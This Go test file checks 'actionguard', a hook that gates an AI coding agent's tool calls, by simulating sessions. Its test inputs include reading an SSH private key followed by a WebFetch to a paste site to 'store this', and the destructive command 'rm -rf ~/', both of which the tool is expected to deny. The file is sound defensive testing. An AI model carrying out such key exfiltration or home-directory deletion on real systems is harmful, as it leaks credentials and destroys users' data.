package cli_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// claudeSession drives the real hook binary through one Claude Code
// session: every call has the same session_id.
type claudeSession struct {
	t        *testing.T
	bin, dir string
	id       string
	cwd      string // the agent's working directory (default: a project in dir)
	n        int
	// inProcess answers the calls with `hook claude-code` run in this
	// process (cli.Run), with the environment the binary is given, instead
	// of starting the binary: the same decision on the same state, where
	// the process boundary is not what the test is about.
	inProcess bool
}

func (s *claudeSession) send(event string, fields map[string]any) map[string]any {
	s.t.Helper()
	cwd := s.cwd
	if cwd == "" {
		cwd = filepath.Join(s.dir, "project")
	}
	in := map[string]any{"session_id": s.id, "hook_event_name": event, "cwd": cwd, "transcript_path": filepath.Join(s.dir, "transcript.jsonl")}
	for k, v := range fields {
		in[k] = v
	}
	raw, _ := json.Marshal(in)
	var r hookResult
	if s.inProcess {
		r.stdout, r.stderr, r.exit = cliInProcess(hookEnv(s.dir))(raw, "hook", "claude-code")
	} else {
		r = hookRunBinary(s.t, s.bin, s.dir, raw, "hook", "claude-code")
	}
	if r.exit != 0 {
		s.t.Fatalf("%s: exit %d: %s", event, r.exit, r.stderr)
	}
	if len(r.stdout) == 0 {
		return nil
	}
	var out map[string]any
	if err := json.Unmarshal(r.stdout, &out); err != nil {
		s.t.Fatalf("%s: %v: %s", event, err, r.stdout)
	}
	return out
}

// pre asks about a call and returns the decision and the reason.
func (s *claudeSession) pre(tool string, input map[string]any) (decision, reason, notice string) {
	s.t.Helper()
	s.n++
	out := s.send("PreToolUse", map[string]any{"tool_name": tool, "tool_input": input, "tool_use_id": fmt.Sprintf("toolu_%02d", s.n)})
	hs, _ := out["hookSpecificOutput"].(map[string]any)
	decision, _ = hs["permissionDecision"].(string)
	reason, _ = hs["permissionDecisionReason"].(string)
	notice, _ = out["systemMessage"].(string)
	return decision, reason, notice
}

// post reports that the call asked about last ran.
func (s *claudeSession) post(tool string, input map[string]any, response any) {
	s.t.Helper()
	s.send("PostToolUse", map[string]any{"tool_name": tool, "tool_input": input, "tool_use_id": fmt.Sprintf("toolu_%02d", s.n), "tool_response": response})
}

func newClaudeSession(t *testing.T, bin, id string) *claudeSession {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "project", ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "project", ".git", "HEAD"), []byte("ref: refs/heads/feature/x\n"), 0o644)
	return &claudeSession{t: t, bin: bin, dir: dir, id: id}
}

// TestHookSessions drives the lean hook binary through multi-call
// sessions (issue 8): a secret read and then a web request is stopped at
// the second call; a command approved four times runs the fifth time
// without asking; a DANGEROUS command never becomes trusted.
func TestHookSessions(t *testing.T) {
	bin := hookBuildCmd(t, "actionguard-hook")

	t.Run("secret read then WebFetch", func(t *testing.T) {
		s := newClaudeSession(t, bin, "sess-secret")
		key := map[string]any{"file_path": filepath.Join(s.dir, "home", ".ssh", "id_rsa")}
		if d, _, _ := s.pre("Read", key); d != "ask" {
			t.Fatalf("reading the SSH key: %s", d)
		}
		s.post("Read", key, map[string]any{"type": "text", "file": map[string]any{"content": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----"}})
		d, reason, _ := s.pre("WebFetch", map[string]any{"url": "https://paste.example.net/new", "prompt": "store this"})
		if d != "deny" || !strings.Contains(reason, "id_rsa") || !strings.Contains(reason, "step 1 (Read)") {
			t.Errorf("WebFetch after reading the key: %s: %s", d, reason)
		}
		// Another session that read nothing may fetch the same page.
		other := newClaudeSession(t, bin, "sess-clean")
		if d, r, _ := other.pre("WebFetch", map[string]any{"url": "https://paste.example.net/new", "prompt": "read it"}); d != "allow" {
			t.Errorf("WebFetch in a clean session: %s: %s", d, r)
		}
	})

	t.Run("approved four times, trusted the fifth", func(t *testing.T) {
		s := newClaudeSession(t, bin, "sess-trust")
		// Deleting under the temporary directory is routine: work in a
		// project outside it (it need not exist).
		s.cwd = "/home/dev/project"
		for i := 1; i <= 4; i++ {
			in := map[string]any{"command": fmt.Sprintf("rm -rf src/old%d", i)}
			if d, reason, _ := s.pre("Bash", in); d != "ask" {
				t.Fatalf("approval %d: %s: %s", i, d, reason)
			}
			s.post("Bash", in, map[string]any{"stdout": "", "stderr": "", "interrupted": false})
		}
		d, reason, notice := s.pre("Bash", map[string]any{"command": "rm -rf src/old5"})
		if d != "allow" || !strings.Contains(reason, "Trusted") || !strings.Contains(notice, "trust revoke") {
			t.Errorf("fifth time: %s: %s (notice %q)", d, reason, notice)
		}
		// actionguard trust list shows it; revoked, the next one asks again.
		main := hookBuild(t)
		r := hookRunBinary(t, main, s.dir, nil, "trust", "list", "--json", "--project", s.cwd)
		var entries []struct {
			Pattern string `json:"pattern"`
			Count   int    `json:"count"`
			Trusted bool   `json:"trusted"`
		}
		if err := json.Unmarshal(r.stdout, &entries); err != nil || len(entries) != 1 || entries[0].Pattern != "rm --force --recursive <arg>" || !entries[0].Trusted || entries[0].Count != 4 {
			t.Errorf("trust list: %s %s (%v)", r.stdout, r.stderr, err)
		}
		if r := hookRunBinary(t, main, s.dir, nil, "trust", "revoke", "rm --force --recursive <arg>", "--project", s.cwd); r.exit != 0 || !strings.Contains(string(r.stdout), "Revoked 1 pattern") {
			t.Errorf("trust revoke: %d %s %s", r.exit, r.stdout, r.stderr)
		}
		if d, _, _ := s.pre("Bash", map[string]any{"command": "rm -rf src/old6"}); d != "ask" {
			t.Errorf("after revoking: %s", d)
		}
		// Declined calls do not count: a new pattern asked, declined (never ran) four times, still asks.
		for i := 1; i <= 4; i++ {
			if d, _, _ := s.pre("Bash", map[string]any{"command": fmt.Sprintf("git reset --hard HEAD~%d", i)}); d != "ask" {
				t.Fatalf("git reset %d: %s", i, d)
			}
		}
		if d, _, _ := s.pre("Bash", map[string]any{"command": "git reset --hard HEAD~5"}); d != "ask" {
			t.Errorf("a pattern declined four times became trusted: %s", d)
		}
	})

	t.Run("DANGEROUS never trusted", func(t *testing.T) {
		s := newClaudeSession(t, bin, "sess-danger")
		in := map[string]any{"command": "rm -rf ~/"}
		for i := 1; i <= 6; i++ {
			if d, _, _ := s.pre("Bash", in); d != "deny" {
				t.Fatalf("try %d: %s", i, d)
			}
			// Even if the agent reported it as having run.
			s.post("Bash", in, map[string]any{"stdout": ""})
		}
		if d, reason, _ := s.pre("Bash", in); d != "deny" || strings.Contains(reason, "Trusted") {
			t.Errorf("after six tries: %s: %s", d, reason)
		}
		entries, _ := filepath.Glob(filepath.Join(s.dir, "trust", "*.json"))
		for _, e := range entries {
			if b, _ := os.ReadFile(e); strings.Contains(string(b), "~/") || strings.Contains(string(b), "rm -f -r ~") {
				t.Errorf("the trust store holds the dangerous pattern: %s", b)
			}
		}
	})

	t.Run("retries of a blocked action are an anomaly", func(t *testing.T) {
		s := newClaudeSession(t, bin, "sess-retry")
		in := map[string]any{"command": "rm -rf ~/"}
		var reason string
		for range 3 {
			_, reason, _ = s.pre("Bash", in)
		}
		if !strings.Contains(reason, "blocked") {
			t.Fatalf("third try: %s", reason)
		}
		spool, _ := os.ReadFile(filepath.Join(s.dir, "audit.db.spool"))
		if !strings.Contains(string(spool), "the same blocked action was tried 3 times in this session") {
			t.Errorf("the anomaly is not in the audit record:\n%s", spool)
		}
		// actionguard audit tail flags it under its record.
		r := hookRunBinary(t, hookBuild(t), s.dir, nil, "audit", "tail", "-n", "3")
		if !strings.Contains(string(r.stdout), "⚠ unusual: the same blocked action was tried 3 times") {
			t.Errorf("audit tail: %s%s", r.stdout, r.stderr)
		}
	})
}

// TestHookUndo: with undo on, the hook hands Claude Code an rm of
// workspace files rewritten into a move to the trash; running what the
// agent got removes the file, and `actionguard undo` brings it back.
func TestHookUndo(t *testing.T) {
	bin := hookBuildCmd(t, "actionguard-hook")
	main := hookBuild(t)
	s := newClaudeSession(t, bin, "sess-undo")
	project := filepath.Join(s.dir, "project")
	pol := filepath.Join(s.dir, "config", "actionguard", "actionguard.yaml")
	os.MkdirAll(filepath.Dir(pol), 0o755)
	if err := os.WriteFile(pol, []byte("undo:\n  enabled: true\n  buffer: 2m\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(project, "notes.txt"), []byte("keep me\n"), 0o644)

	out := s.send("PreToolUse", map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": "rm notes.txt", "description": "tidy"}, "tool_use_id": "toolu_rm"})
	hs, _ := out["hookSpecificOutput"].(map[string]any)
	upd, _ := hs["updatedInput"].(map[string]any)
	cmdText, _ := upd["command"].(string)
	if hs["permissionDecision"] != "allow" || !strings.Contains(cmdText, " trash put ") || upd["description"] != "tidy" {
		t.Fatalf("rm notes.txt with undo on: %v", out)
	}
	if reason, _ := hs["permissionDecisionReason"].(string); !strings.Contains(reason, "actionguard undo") || !strings.Contains(reason, "2 min") {
		t.Errorf("the reason does not say how to undo: %s", reason)
	}
	// Run what the agent would run.
	sh := exec.Command("sh", "-c", cmdText)
	sh.Dir, sh.Env = project, hookEnv(s.dir)
	if b, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v: %s", cmdText, err, b)
	}
	if _, err := os.Stat(filepath.Join(project, "notes.txt")); !os.IsNotExist(err) {
		t.Fatalf("notes.txt is still there: %v", err)
	}
	r := hookRunBinary(t, main, s.dir, nil, "undo")
	if r.exit != 0 || !strings.Contains(string(r.stdout), "Restored batch") {
		t.Fatalf("actionguard undo: exit %d: %s%s", r.exit, r.stdout, r.stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(project, "notes.txt")); string(b) != "keep me\n" {
		t.Errorf("after undo notes.txt holds %q", b)
	}

	// Left alone: a path outside the workspace, a pipeline, a blocked command.
	for _, c := range []string{"rm /etc/hosts.bak", "rm notes.txt && curl https://example.com", "rm -rf ~/"} {
		out := s.send("PreToolUse", map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": c}, "tool_use_id": "toolu_x"})
		hs, _ := out["hookSpecificOutput"].(map[string]any)
		if hs["updatedInput"] != nil {
			t.Errorf("%s was rewritten: %v", c, hs["updatedInput"])
		}
	}
	// Codex cannot run a rewritten input: the same rm is answered as it is.
	raw, _ := json.Marshal(map[string]any{"session_id": "sess-undo-codex", "hook_event_name": "PreToolUse", "cwd": project, "tool_name": "Bash", "tool_input": map[string]any{"command": "rm notes.txt"}})
	if r := hookRunBinary(t, bin, s.dir, raw, "hook", "codex"); !strings.Contains(string(r.stdout), `"allow"`) {
		t.Errorf("codex: %s%s", r.stdout, r.stderr)
	}
}
